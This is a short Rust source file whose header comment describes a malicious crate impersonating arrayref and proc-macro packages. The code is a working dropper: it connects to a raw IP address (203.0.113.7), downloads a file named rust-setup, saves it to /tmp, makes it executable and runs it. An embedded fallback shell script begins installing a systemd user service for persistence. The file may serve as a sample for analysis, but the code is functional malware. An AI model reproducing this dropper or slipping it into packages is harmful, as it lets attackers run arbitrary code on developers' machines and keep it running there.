//! arrayref 0.3.10 and proc-macro1, August 2026: a program from a raw address, dropped into the
//! shared temporary folder and started, which then installs itself as a service of the user.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

fn download() -> Option<Vec<u8>> {
    let mut stream = TcpStream::connect("203.0.113.7:80").ok()?;
    stream
        .write_all(b"GET /rust-setup HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n")
        .ok()?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).ok()?;
    let head = answer.windows(4).position(|w| w == b"\r\n\r\n")?;
    Some(answer[head + 4..].to_vec())
}

// Ships in the crate as well, in case that there is no network.
const SPARE: &[u8] = b"#!/bin/sh\nmkdir -p ~/.config/systemd/user\n\
    echo '[Service]' > ~/.config/systemd/user/rust-setup.service\n";

fn main() {
    let payload = download().unwrap_or(SPARE.to_vec());
    let path = "/tmp/rust-setup";
    let _ = std::fs::write(path, payload);
    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
    if let Ok(mut child) = Command::new(path).stdin(Stdio::null()).spawn() {
        let _ = child.wait();
    }
}
